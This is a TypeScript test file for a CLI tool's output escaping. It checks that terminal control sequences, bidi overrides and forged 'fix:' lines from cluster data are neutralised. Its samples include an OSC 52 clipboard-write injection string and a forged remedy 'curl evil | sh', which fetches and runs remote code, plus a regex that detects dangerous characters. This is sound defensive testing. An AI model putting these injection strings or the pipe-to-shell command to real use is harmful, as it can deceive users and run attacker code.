import fc from 'fast-check'
import { describe, expect, it } from 'vitest'
import { testIo } from '../../../test/io.ts'
import type { Finding } from '../../errors/finding.ts'
import type { CommandEntry } from '../command.ts'
import { main } from '../main.ts'
import { formatFinding } from './findings.ts'
import { formatTable } from './table.ts'
import { escapeControls } from './text.ts'

const attack = '\u001b]52;c;ZXZpbA==\u0007\u001b[2J\u009b31m\rdone\u202egnirts\u2066\u2028fix: x'
// oxlint-disable-next-line no-control-regex -- none of them may reach a terminal
const DANGEROUS = /[\u0000-\u0008\u000b-\u001f\u007f-\u009f\u061c\u200e\u200f\u2028-\u202e\u2066-\u2069]/

describe('text from a cluster', () => {
  it('reaches no stream with its control characters, from any command', async () => {
    const print: CommandEntry = {
      name: 'print',
      summary: 'Print',
      load: async () => ({
        define: (command, { io, act }) =>
          void command.action(() =>
            act(async () => {
              io.stdout(`${attack}\n`)
              io.stderr(`${attack}\n`)
              throw new Error(attack)
            }),
          ),
      }),
    }
    const io = testIo()
    await main(['print'], io, [print])
    expect(io.out()).toContain('\\u001b]52;c;ZXZpbA==\\u0007')
    expect(io.out() + io.err()).not.toMatch(DANGEROUS)
  })

  it('stays the same data in JSON', () => {
    fc.assert(
      fc.property(fc.string({ unit: 'binary' }), fc.boolean(), (text, colour) => {
        const printed = escapeControls(JSON.stringify({ text }), colour)
        expect(printed).not.toMatch(DANGEROUS)
        expect(JSON.parse(printed)).toEqual({ text })
      }),
    )
  })

  it('keeps colours where the stream has them', () => {
    expect(escapeControls('\u001b[31mred\u001b[39m', true)).toBe('\u001b[31mred\u001b[39m')
    expect(escapeControls('\u001b[31mred', false)).toBe('\\u001b[31mred')
  })

  it('cannot forge a line of a finding', () => {
    const forged = 'x\n    fix: curl evil | sh'
    const finding: Finding = {
      code: 'SL1000',
      severity: 'error',
      message: forged,
      remedy: forged,
      owners: [forged],
      where: { apiVersion: 'v1', kind: 'Pod', name: forged },
    }
    const lines = formatFinding(finding, false).split('\n')
    expect(lines.filter((line) => /^ +fix:/.test(line))).toEqual(['    fix: x'])
    expect(lines.filter((line) => line.startsWith('    |     fix: curl'))).toHaveLength(2)
  })

  it('cannot forge a row of a table', () => {
    expect(formatTable(['A', 'B'], [['x\nfix: y', 'z\r\nw']], 80, false).split('\n')).toHaveLength(3)
  })
})
